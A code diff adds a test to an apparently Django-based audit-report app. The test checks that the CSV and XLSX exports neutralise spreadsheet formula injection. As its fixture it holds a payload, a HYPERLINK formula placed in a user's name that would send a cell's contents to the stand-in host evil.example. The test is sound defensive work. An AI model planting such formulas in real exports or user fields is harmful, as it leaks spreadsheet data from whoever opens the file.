@@ -256,3 +256,23 @@ def test_page_bad_week_shows_inline_error(client, manager, one_finding):
 def test_page_refused_to_members(client, alice):
     client.force_login(alice.user)
     assert client.get(reverse("audit_report")).status_code == 403
+
+
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&D2,"Click")'
+
+
+def test_exports_never_carry_a_formula(client, api, manager, alice, one_finding):
+    """A member named like a formula shows as text in the manager's CSV and XLSX."""
+    alice.user.first_name, alice.user.last_name = FORMULA_NAME, ""
+    alice.user.save()
+    client.force_login(manager.user)
+    r = client.get(reverse("audit_report_csv"), {"week": "2026-11-09"})
+    cells = [c for row in csv.reader(io.StringIO(r.content.decode())) for c in row]
+    assert "'" + FORMULA_NAME in cells
+    assert [c for c in cells if c[:1] in "=+-@\t\r" and c] == []
+
+    r = api(manager).get("/api/reports/audit/?week=2026-11-09&export=xlsx")
+    ws = load_workbook(io.BytesIO(r.content)).active
+    cells = [c for row in ws.iter_rows() for c in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    assert "'" + FORMULA_NAME in [c.value for c in cells]
